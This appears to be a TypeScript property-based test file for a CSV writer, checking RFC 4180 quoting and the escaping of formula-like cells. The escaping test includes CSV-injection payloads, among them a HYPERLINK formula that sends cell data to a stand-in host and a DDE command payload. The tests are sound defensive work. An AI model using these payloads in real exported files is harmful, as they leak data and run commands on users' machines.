// Proves that what is written reads back as it was, and that no cell of it is a formula.
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { csvLine } from "@/lib/platform/csv";
import { anyText } from "@/lib/platform/test-any-text";

/** A reader of RFC 4180 by its grammar, for one record. */
function read(line: string): string[] {
  const record = line.slice(0, -2);
  const cells = record.match(/(?<=^|,)(?:"(?:[^"]|"")*"|[^",]*)(?=,|$)/g) ?? [];
  return cells.map((cell) => (cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell));
}

const text = fc.oneof(
  anyText(),
  fc.string({ unit: fc.constantFrom('"', ",", "\r", "\n", "=", "'", " ", ";", "阿") }),
);

describe("a line", () => {
  it("ends with CRLF, and quotes what needs it (RFC 4180 2)", () => {
    expect(csvLine(["a", 1, null, ""])).toBe("a,1,,\r\n");
    expect(csvLine(['say "hi"', "a,b", "a\r\nb", "a;b"])).toBe('"say ""hi""","a,b","a\r\nb","a;b"\r\n');
  });

  it("reads back as it was, but for the apostrophe before a formula", () => {
    const property = fc.property(fc.array(text, { minLength: 1 }), (cells) => {
      const safe = cells.map((cell) => (/^[=+\-@\t\r\n＝＋－＠]/.test(cell) ? `'${cell}` : cell));
      expect(read(csvLine(cells))).toEqual(safe);
    });
    fc.assert(property);
  });
});

describe("a cell", () => {
  it.each([
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "＝1",
    '=HYPERLINK("http://evil.example?"&A1)',
    "=cmd|' /C calc'!A0",
  ])("that says %j runs nowhere (R116)", (formula) => {
    expect(read(csvLine([formula]))).toEqual([`'${formula}`]);
  });

  it("that is a number stays one, below zero too", () => {
    expect(csvLine([-5, 0, 1.5])).toBe("-5,0,1.5\r\n");
  });

  it("never begins as a formula, whatever is written (R116)", () => {
    const property = fc.property(fc.array(text, { minLength: 1 }), (cells) => {
      for (const cell of read(csvLine(cells))) expect(cell).not.toMatch(/^[=+\-@\t\r\n]/);
    });
    fc.assert(property);
  });
});
